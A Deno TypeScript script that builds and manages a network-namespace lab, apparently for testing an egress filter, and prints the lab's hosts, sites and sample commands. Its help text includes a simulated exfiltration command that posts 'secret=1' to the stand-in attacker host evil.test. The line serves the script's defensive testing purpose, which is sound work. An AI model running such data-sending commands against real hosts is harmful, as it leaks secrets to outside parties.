/**
 * The lab by hand: `deno task lab up | in SIDE -- CMD… | down`.
 *
 * @module
 */
import { enterArgs, namespaceName } from "./namespaces.ts";
import { Lab, labDirectory, trustEnvironment } from "./lab.ts";
import { ADDRESSES, ATTACKER, PORTS, SITES, WILDCARD } from "./topology.ts";
import { removeLab } from "./watchdog.ts";

/** Another name lets a test use this program beside a person's own lab. */
const PREFIX = Deno.env.get("SLUICE_LAB") ?? "lab";
const SIDES = ["run", "out", "box"] as const;
const USAGE = "Usage: deno task lab up | in run|out|box -- CMD... | down";

if (import.meta.main) Deno.exit(await main(Deno.args));

async function main(args: readonly string[]): Promise<number> {
  const [act, ...rest] = args;
  if (act === "up" && rest.length === 0) return await bringUp();
  if (act === "down" && rest.length === 0) return await takeDown();
  if (act === "in") return await runInside(rest);
  console.error(USAGE);
  return 2;
}

async function bringUp(): Promise<number> {
  const startedMs = performance.now();
  await Lab.up({ prefix: PREFIX, container: true, keep: true });
  const milliseconds = Math.round(performance.now() - startedMs);
  console.log(`The lab is up after ${milliseconds} ms.\n`);
  console.log(describe());
  return 0;
}

async function takeDown(): Promise<number> {
  await removeLab({ prefix: PREFIX, directory: labDirectory(PREFIX) });
  console.log("The lab is gone.");
  return 0;
}

async function runInside(args: readonly string[]): Promise<number> {
  const side = SIDES.find((name) => name === args[0]);
  const command = args.slice(args[1] === "--" ? 2 : 1);
  if (side === undefined || command.length === 0) {
    console.error(USAGE);
    return 2;
  }
  const directory = labDirectory(PREFIX);
  let pid: string;
  try {
    pid = await Deno.readTextFile(`${directory}/${side}.pid`);
  } catch (error) {
    if (!(error instanceof Deno.errors.NotFound)) throw error;
    console.error('The lab is not up: "deno task lab up" builds it.');
    return 2;
  }
  // A task runs in the project's directory; the person's own is in INIT_CWD.
  const cwd = Deno.env.get("INIT_CWD") ?? Deno.cwd();
  const [program, ...rest] = [...enterArgs(Number(pid), cwd), ...command];
  const { code } = await new Deno.Command(program!, {
    args: rest,
    env: trustEnvironment(directory),
    stdin: "inherit",
    stdout: "inherit",
    stderr: "inherit",
  }).output();
  return code;
}

function describe(): string {
  const namespaces = SIDES.map((side) =>
    `  ${side}  ${namespaceName(PREFIX, side)}  /run/netns/${
      namespaceName(PREFIX, side)
    }`
  );
  const sites = [...SITES, WILDCARD, ATTACKER].flatMap(({ name, addresses }) =>
    addresses.map(({ ipv4, ipv6 }) => `  ${name.padEnd(14)}${ipv4}  ${ipv6}`)
  );
  const { run, box, resolver } = ADDRESSES;
  const directory = labDirectory(PREFIX);
  return `Namespaces
${namespaces.join("\n")}

Hosts
  ${"run".padEnd(14)}${run.ipv4}  ${run.ipv6}
  ${"box".padEnd(14)}${box.ipv4}  ${box.ipv6}
  ${"resolver".padEnd(14)}${resolver.ipv4}  ${resolver.ipv6}

Sites (ports ${[...PORTS.web, ...PORTS.tls].join(", ")}; evil.test: ${
    PORTS.attackerTcp.join(", ")
  } and UDP ${PORTS.attackerUdp.join(", ")})
${sites.join("\n")}

Try
  deno task lab in run -- curl https://allowed.test/
  deno task lab in run -- curl --data secret=1 http://evil.test/
  deno task lab in box -- ping -c 1 -6 cdn.test
  deno task lab in out -- tcpdump -ni edge
  tail -f ${directory}/attacker.ndjson ${directory}/resolver.log
  deno task lab down`;
}
